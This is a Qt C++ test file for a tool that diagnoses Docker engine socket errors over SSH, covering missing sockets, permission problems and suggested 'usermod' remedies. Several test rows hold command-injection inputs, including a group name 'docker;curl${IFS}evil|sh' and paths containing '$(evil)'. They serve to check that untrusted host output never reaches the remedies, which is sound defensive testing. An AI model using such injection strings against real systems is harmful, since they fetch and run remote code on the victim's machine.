// SPDX-FileCopyrightText: 2026 The Hullwright authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "app/ssh/enginediagnosis.h"

#include <QFile>
#include <QHash>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

using namespace Hull;
using namespace Qt::StringLiterals;

namespace {

//! A socket at a path, at which nobody listens.
class BoundSocket
{
public:
    explicit BoundSocket(const QString& path)
        : m_descriptor(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0))
    {
        const QByteArray name = QFile::encodeName(path);
        sockaddr_un address = {};
        address.sun_family = AF_UNIX;
        std::copy(name.begin(), name.end(), address.sun_path);
        if (::bind(m_descriptor, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0) {
            qFatal("cannot bind %s", name.constData());
        }
    }
    ~BoundSocket() { ::close(m_descriptor); }
    Q_DISABLE_COPY_MOVE(BoundSocket)

private:
    const int m_descriptor;
};

//! What comes of the script in a shell of this machine, in an environment with nothing but what is given.
std::optional<Error> diagnosed(const SshTarget& target, const QHash<QString, QString>& variables)
{
    QProcessEnvironment environment;
    environment.insert(u"PATH"_s, qEnvironmentVariable("PATH"));
    for (auto variable = variables.begin(); variable != variables.end(); ++variable) {
        environment.insert(variable.key(), variable.value());
    }
    QProcess shell;
    shell.setProcessEnvironment(environment);
    shell.start(u"sh"_s, QStringList{});
    shell.write(engineSocketScript(target));
    shell.closeWriteChannel();
    if (!shell.waitForFinished()) {
        qFatal("the shell does not end");
    }
    const QByteArray errors = shell.readAllStandardError();
    if (!errors.isEmpty()) {
        qFatal("the script says %s", errors.constData());
    }
    return engineSocketError(shell.readAllStandardOutput(), target);
}

} // namespace

class EngineDiagnosisTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void looksAtTheSocket_data();
    void looksAtTheSocket();
    void namesAccountAndGroup_data();
    void namesAccountAndGroup();
    void namesAnotherEngine_data();
    void namesAnotherEngine();
    void findsAnotherEngine();
    void explainsDialStdio_data();
    void explainsDialStdio();
    void doesNotClaimThatForwardingIsForbidden();
};

void EngineDiagnosisTest::looksAtTheSocket_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<Error::Kind>("kind");
    QTest::newRow("missing") << u"nothing"_s << Error::Kind::SocketMissing;
    QTest::newRow("missing folder") << u"no/where/s"_s << Error::Kind::SocketMissing;
    QTest::newRow("a file") << u"file"_s << Error::Kind::NotASocket;
    QTest::newRow("a socket") << u"it's a $(socket)"_s << Error::Kind::None;
}

void EngineDiagnosisTest::looksAtTheSocket()
{
    QFETCH(QString, name);
    QFETCH(Error::Kind, kind);
    const QTemporaryDir folder;
    QFile file(folder.filePath(u"file"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    const BoundSocket server(folder.filePath(u"it's a $(socket)"_s));
    const std::optional<Error> error = diagnosed({.host = u"web"_s, .remoteSocket = folder.filePath(name)}, {});
    QCOMPARE(errorKindName(error ? error->kind : Error::Kind::None), errorKindName(kind));
}

void EngineDiagnosisTest::namesAccountAndGroup_data()
{
    QTest::addColumn<QByteArray>("said"); // by the host, which may lie
    QTest::addColumn<QString>("account");
    QTest::addColumn<QString>("command");
    const QString none;
    const QString somebody = u"this account"_s;
    QTest::newRow("names") << QByteArray("ops\ndocker") << u"ops"_s << u"`sudo usermod -aG docker ops`"_s;
    QTest::newRow("numbers") << QByteArray("4242\n54321") << u"4242"_s << u"`sudo usermod -aG 54321 4242`"_s;
    QTest::newRow("odd names") << QByteArray("a.b_c-d\n_x.y-z") << u"a.b_c-d"_s
                               << u"`sudo usermod -aG _x.y-z a.b_c-d`"_s;
    QTest::newRow("no group") << QByteArray("ops\n") << u"ops"_s << u"`sudo usermod -aG docker ops`"_s;
    QTest::newRow("a group that is a command") << QByteArray("ops\ndocker;curl${IFS}evil|sh") << u"ops"_s << none;
    QTest::newRow("an account that is a command") << QByteArray("ops;evil\ndocker") << somebody << none;
    QTest::newRow("an option") << QByteArray("ops\n-R") << u"ops"_s << none;
    QTest::newRow("two words") << QByteArray("ops evil\ndocker") << somebody << none;
    QTest::newRow("nothing") << QByteArray("\n") << somebody << none;
}

void EngineDiagnosisTest::namesAccountAndGroup()
{
    QFETCH(QByteArray, said);
    QFETCH(QString, account);
    QFETCH(QString, command);
    const std::optional<Error> error = engineSocketError("DENIED\n" + said + '\n', {.host = u"web"_s});
    QVERIFY(error);
    QCOMPARE(error->kind, Error::Kind::PermissionDenied);
    QVERIFY2(error->message.english().startsWith(account + " may not"_L1), qPrintable(error->message.english()));
    const QString remedy = error->remedy.english();
    QVERIFY2(remedy.contains(command), qPrintable(remedy));
    QCOMPARE(remedy.contains(u'`'), !command.isEmpty());
    QVERIFY(!(remedy + error->cause.english()).contains("evil"_L1));
}

void EngineDiagnosisTest::namesAnotherEngine_data()
{
    QTest::addColumn<QByteArray>("said");
    QTest::addColumn<QString>("socket");
    const QString none;
    QTest::newRow("none") << QByteArray("MISSING\n") << none;
    QTest::newRow("missing") << QByteArray("MISSING\n/run/user/1000/docker.sock\n") << u"/run/user/1000/docker.sock"_s;
    QTest::newRow("closed to the account") << QByteArray("DENIED\nops\ndocker\n/run/user/1000/podman/podman.sock\n")
                                           << u"/run/user/1000/podman/podman.sock"_s;
    QTest::newRow("too long") << "MISSING\n" + QByteArray(60, '/').replace("/", "/ev") + "il\n" << none;
    QTest::newRow("the one that is missing") << QByteArray("MISSING\n/var/run/docker.sock\n") << none;
    QTest::newRow("a command") << QByteArray("MISSING\n/run/$(evil)\n") << none;
    QTest::newRow("a way out") << QByteArray("MISSING\n/run/x y; evil\n") << none;
    QTest::newRow("no path") << QByteArray("MISSING\nevil\n") << none;
}

void EngineDiagnosisTest::namesAnotherEngine()
{
    QFETCH(QByteArray, said);
    QFETCH(QString, socket);
    const std::optional<Error> error = engineSocketError(said, {.host = u"web"_s, .user = u"ops"_s, .port = 2222});
    QVERIFY(error);
    const QString told = error->cause.english() + u' ' + error->remedy.english();
    QCOMPARE(told.contains(u"the engine that"_s), !socket.isEmpty());
    QVERIFY2(told.contains(socket), qPrintable(told));
    QVERIFY(!told.contains(u"evil"_s));
}

void EngineDiagnosisTest::findsAnotherEngine()
{
    const QTemporaryDir folder;
    const BoundSocket server(folder.filePath(u"docker.sock"_s));
    const SshTarget target{.host = u"web"_s, .remoteSocket = folder.filePath(u"nothing"_s)};
    for (const auto& [name, value] : {std::pair{u"DOCKER_HOST"_s, "unix://"_L1 + folder.filePath(u"docker.sock"_s)},
             std::pair{u"XDG_RUNTIME_DIR"_s, folder.path()}}) {
        const std::optional<Error> error = diagnosed(target, {{name, value}});
        QVERIFY(error);
        QCOMPARE(error->kind, Error::Kind::SocketMissing);
        QVERIFY2(error->remedy.english().endsWith(" "_L1 + folder.filePath(u"docker.sock"_s) + u'.'),
            qPrintable(error->remedy.english()));
    }
}

void EngineDiagnosisTest::explainsDialStdio_data()
{
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("output");
    QTest::addColumn<QByteArray>("errors");
    QTest::addColumn<Error::Kind>("kind");
    QTest::newRow("no command") << 127 << QByteArray() << QByteArray("bash: line 1: docker: command not found\n")
                                << Error::Kind::ProgramMissing;
    QTest::newRow("no socket") << 1 << QByteArray()
                               << QByteArray("failed to open the raw stream connection: dial unix /x.sock: connect: no "
                                             "such file or directory\n")
                               << Error::Kind::SocketMissing;
    QTest::newRow("denied") << 1 << QByteArray()
                            << QByteArray("failed to open the raw stream connection: dial unix /var/run/docker.sock: "
                                          "connect: permission denied\n")
                            << Error::Kind::PermissionDenied;
    QTest::newRow("nobody listens") << 1 << QByteArray()
                                    << QByteArray("failed to open the raw stream connection: dial unix /x.sock: "
                                                  "connect: connection refused\n")
                                    << Error::Kind::ConnectionRefused;
    QTest::newRow("noise") << -1 << QByteArray("Welcome!\nHTTP/1.1 200 OK\r\n") << QByteArray()
                           << Error::Kind::BadAnswer;
    QTest::newRow("no session")
        << 255 << QByteArray()
        << QByteArray("mux_client_request_session: session request failed: Session open refused by peer\n")
        << Error::Kind::Forbidden;
    QTest::newRow("nothing said") << 1 << QByteArray() << QByteArray() << Error::Kind::ConnectionLost;
}

void EngineDiagnosisTest::explainsDialStdio()
{
    QFETCH(int, exitCode);
    QFETCH(QByteArray, output);
    QFETCH(QByteArray, errors);
    QFETCH(Error::Kind, kind);
    const Error error = dialStdioError(exitCode, output, errors, {.host = u"web"_s, .user = u"ops"_s});
    QCOMPARE(errorKindName(error.kind), errorKindName(kind));
    QVERIFY(error.message.english().contains("web"_L1));
    QVERIFY(!error.remedy.isEmpty());
}

void EngineDiagnosisTest::doesNotClaimThatForwardingIsForbidden()
{
    const SshTarget target{.host = u"web"_s};
    const Error proven = forwardingForbiddenError(target, true);
    QVERIFY(!proven.cause.english().contains("engine"_L1));
    const Error command = dialStdioError(127, {}, "docker: command not found", target);
    for (const Error& error : {forwardingForbiddenError(target, false), afterForwardingError(command, target)}) {
        QVERIFY(error.message != proven.message && error.message != command.message);
        QVERIFY(error.cause.english().contains("No engine listens there"_L1));
        QVERIFY(error.cause.english().contains("forbids"_L1) || error.cause.english().contains("sshd_config"_L1));
    }
    const Error refused = dialStdioError(1, {}, "dial unix /x.sock: connect: connection refused", target);
    QCOMPARE(afterForwardingError(refused, target), refused);
}

QTEST_GUILESS_MAIN(EngineDiagnosisTest)
#include "tst_enginediagnosis.moc"
